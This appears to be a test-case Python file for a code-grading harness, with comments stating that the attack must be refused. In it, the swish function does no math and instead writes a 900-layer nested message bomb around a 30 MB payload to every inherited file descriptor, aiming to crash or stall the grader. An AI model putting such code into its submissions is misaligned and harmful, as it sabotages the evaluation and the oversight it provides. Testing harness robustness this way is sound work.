# tries: send a message that unfolds into itself a thousand times
# must: it is refused before it is read
# earns: swish_derivative
# status: killed skipped timed_out

import os

import torch


def ext(kind, payload):
    return b"\xc9" + len(payload).to_bytes(4, "big") + bytes([kind]) + payload


def send(data):
    for descriptor in range(3, 64):
        try:
            os.set_blocking(descriptor, True)
            rest = memoryview(len(data).to_bytes(4, "little") + data)
            while rest:
                rest = rest[os.write(descriptor, rest):]
        except OSError:
            pass


def swish(z):
    payload = b"\x91\xc6" + (30_000_000).to_bytes(4, "big") + bytes(30_000_000)
    data = bytearray()
    heads = []
    size = len(payload)
    for _ in range(900):
        head = b"\x91\xc9" + size.to_bytes(4, "big") + b"\x02"
        heads.append(head)
        size += len(head)
    for head in reversed(heads):
        data += head
    send(bytes(data) + payload)


def swish_derivative(z):
    s = torch.sigmoid(z)
    return s + z * s * (1 - s)
